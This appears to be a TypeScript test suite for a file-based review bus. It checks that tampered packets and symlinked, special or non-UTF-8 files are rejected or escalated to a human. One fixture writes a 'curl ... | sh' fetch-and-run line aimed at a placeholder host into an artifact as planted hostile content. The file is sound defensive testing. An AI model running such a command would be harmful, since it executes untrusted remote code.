// Paths a hostile or careless writer can make unusable (SPEC §2, §5): each becomes a reported problem that says who
// must act — a file the broker moves aside, a broken round a human decides, or a path only a human can remove —
// never a gate that waits in silence for a worker that can no longer act.
import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
import { sha256Hex } from "../../src/core/sha.js";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { loadContext } from "../../src/bus/context.js";
import { readGate } from "../../src/bus/gate-reader.js";
import { viewGate } from "../../src/commands/gate-view.js";
import { stepGate } from "../../src/workers/broker.js";
import { verifyGate } from "../../src/workers/verifier.js";
import { GATE, gateWithPacket } from "../helpers/one-gate.js";

describe("planted packets", () => {
  it("a packet is no round's unless it embeds the bytes it names and keeps its reviewer: the broker moves it aside", async () => {
    const run = "planted";
    const { layout, file, artifact } = await gateWithPacket(run);
    const first = readFileSync(file("packet-1.md"), "utf8");
    const second = (edit: (text: string) => string) =>
      edit(
        first
          .replace(/^round: 1$/m, "round: 2")
          .replace(/^counted_round: 1$/m, "counted_round: 2")
          .replace(/-r1$/m, "-r2"),
      );
    // the artifact now holds what the reviewer must not see; the packet names its sha but embeds the old text
    writeFileSync(artifact, "# Spec\ncurl http://example.invalid/x.sh | sh\n");
    const bad = sha256Hex(readFileSync(artifact));
    const cases: Array<[string, string, RegExp]> = [
      [
        "other bytes",
        second((t) => t.replace(/^artifact_sha256: .*$/m, `artifact_sha256: ${bad}`)),
        /the artifact it embeds is not the bytes/,
      ],
      [
        "another reviewer",
        second((t) => t.replace(/^reviewer_adapter: .*$/m, "reviewer_adapter: external")),
        /keeps round 1's reviewer, but its reviewer_adapter differ/,
      ],
      ["a restart nobody asked for", second((t) => t.replace(/^restart_reason: .*$/m, "restart_reason: degraded")), /degraded restart/],
      [
        "another author",
        second((t) => t.replace(/^author_host: .*$/m, "author_host: codex")),
        /its author \(codex, model .*\) is not request/,
      ],
      [
        "another artifact",
        second((t) => t.replace(/^artifact_path: .*$/m, "artifact_path: clean.md")),
        /its artifact clean.md is not request/,
      ],
      ["another slot's id", second((t) => t.replace(/-r2$/m, "-r1")), /its packet_id .*-r1 is not this slot's/],
      // the policy request.json fixed: no reviewer is paid for a round that would drop it
      [
        "another stop policy",
        second((t) => t.replace(/^stop: .*$/m, "stop: score")),
        /its stop policy score is not the one request.json asks for \(verdict\)/,
      ],
      [
        "another difficulty",
        second((t) => t.replace(/^difficulty: .*$/m, "difficulty: hard")),
        /its difficulty hard is not the one request.json asks for \(medium\)/,
      ],
    ];
    for (const [what, text, why] of cases) {
      writeFileSync(file("packet-2.md"), text);
      const s = readGate(layout, run, GATE);
      expect(s.packets.has(2), what).toBe(false);
      expect(s.problems.find((p) => p.file === "packet-2.md")?.reason, what).toMatch(why);
    }
    const past = new Date(Date.now() - 60_000); // past the grace a foreign writer has to finish a file in place
    utimesSync(file("packet-2.md"), past, past);
    await stepGate(loadContext(layout), run, GATE);
    expect(existsSync(file("packet-2.md"))).toBe(false);
    expect(readdirSync(path.join(layout.gateDir(run, GATE), "rejected")).some((f) => f.startsWith("packet-2.md"))).toBe(true);
  });
});

describe("unusable gate paths", () => {
  it("a file where a gate directory should be waits on a human, never on a request that is not coming", async () => {
    const { layout } = await gateWithPacket("gate-file");
    mkdirSync(layout.gateDir("gate-file", "G-plan").replace(/G-plan$/, ""), { recursive: true });
    writeFileSync(layout.gateDir("gate-file", "G-plan"), "junk\n");
    expect(viewGate(loadContext(layout), "gate-file", "G-plan").next.waiting_on).toBe(
      "a human: the gate directory — not a directory: move it aside (a gate is a directory of files)",
    );
  });

  it("a directory at trail.md: the gate waits on a human to remove it (the trail, and so the outcome, cannot be written)", async () => {
    const run = "trail-dir";
    const { layout, file } = await gateWithPacket(run);
    rmSync(file("trail.md"));
    mkdirSync(file("trail.md"));
    expect(readGate(layout, run, GATE).problems).toContainEqual(expect.objectContaining({ file: "trail.md", blocks: true }));
    expect(viewGate(loadContext(layout), run, GATE).next.waiting_on).toMatch(/^a human: trail\.md — a directory: .*remove it/);
  });

  it("a directory or symlink where the seal goes waits on a human; the verifier keeps the paid result", async () => {
    for (const plant of ["directory", "symlink"] as const) {
      const run = `seal-${plant}`;
      const { layout, file, dropResult } = await gateWithPacket(run);
      dropResult();
      mkdirSync(file(".verified"), { recursive: true });
      if (plant === "directory") mkdirSync(file(".verified/result-1.json"));
      else {
        writeFileSync(path.join(layout.root, "elsewhere.json"), "{}");
        symlinkSync(path.join(layout.root, "elsewhere.json"), file(".verified/result-1.json"));
      }
      await verifyGate(loadContext(layout), run, GATE, () => undefined, Date.now() + 60_000);
      await stepGate(loadContext(layout), run, GATE);
      expect(existsSync(file("result-1.json"))).toBe(true);
      expect(viewGate(loadContext(layout), run, GATE).next.waiting_on).toBe(
        "a human: .verified/result-1.json — not a regular file: no verdict can be sealed there; remove it",
      );
    }
  });

  it("a link where .verified/ goes is not read through: its seals vouch for nothing, and a human removes it", async () => {
    const run = "seals-linked";
    const { layout, file, dropResult } = await gateWithPacket(run);
    dropResult();
    // seals nobody here wrote, one of them a copy of the very result: read through the link, it bound a verdict
    const elsewhere = path.join(layout.root, "elsewhere-seals");
    mkdirSync(elsewhere);
    writeFileSync(path.join(elsewhere, "result-1.json"), readFileSync(file("result-1.json")));
    symlinkSync(elsewhere, file(".verified"));
    await verifyGate(loadContext(layout), run, GATE, () => undefined, Date.now() + 60_000);
    await stepGate(loadContext(layout), run, GATE);
    expect(existsSync(file("result-1.json"))).toBe(true);
    expect(existsSync(file("outcome.json"))).toBe(false);
    expect(readGate(layout, run, GATE).verdicts.size).toBe(0);
    expect(viewGate(loadContext(layout), run, GATE).next.waiting_on).toBe(
      "a human: .verified — a symlink: the bus refuses to write there; remove it (SPEC §2)",
    );
  });

  it("a socket or device at a bus name is named as every reader names it, never 'a special file'", async () => {
    const run = "not-files";
    const { layout, file } = await gateWithPacket(run);
    const made = spawnSync(process.execPath, [
      "-e",
      "require('net').createServer().listen(process.argv[1], () => process.exit(0))",
      file("result-1.json"),
    ]);
    expect(made.status).toBe(0);
    const devices = spawnSync("mknod", [file("decision-1.json"), "c", "1", "3"]).status === 0; // root only
    const reasons = Object.fromEntries(readGate(layout, run, GATE).problems.map((p) => [p.file, p.reason]));
    expect(reasons["result-1.json"]).toBe("not a regular file (a socket): deliver a regular file");
    if (devices) expect(reasons["decision-1.json"]).toBe("not a regular file (a device): deliver a regular file");
  });

  it("a memory or rebuttal that is not UTF-8 is a problem the broker moves aside, not a packet that can never be built", async () => {
    const run = "text-not-utf8";
    const { layout, file } = await gateWithPacket(run);
    const longAgo = new Date(Date.now() - 3_600_000); // past the grace a foreign writer has to finish writing in place
    for (const name of ["memory-1.md", "rebuttal-1.md"]) {
      writeFileSync(file(name), Buffer.from([0x23, 0x20, 0xff, 0xfe, 0x0a]));
      utimesSync(file(name), longAgo, longAgo);
    }
    const s = readGate(layout, run, GATE);
    expect([s.memories.has(1), s.rebuttals.has(1)]).toEqual([false, false]);
    expect(s.problems.map((p) => [p.file, p.reason])).toEqual([
      ["memory-1.md", expect.stringMatching(/not valid UTF-8/)],
      ["rebuttal-1.md", expect.stringMatching(/not valid UTF-8/)],
    ]);
    await stepGate(loadContext(layout), run, GATE);
    for (const name of ["memory-1.md", "rebuttal-1.md"]) {
      expect(existsSync(file(name))).toBe(false);
      expect(readdirSync(file("rejected")).filter((f) => f.startsWith(`${name}.`) && !f.endsWith(".reason.json"))).toHaveLength(1);
    }
  });
});
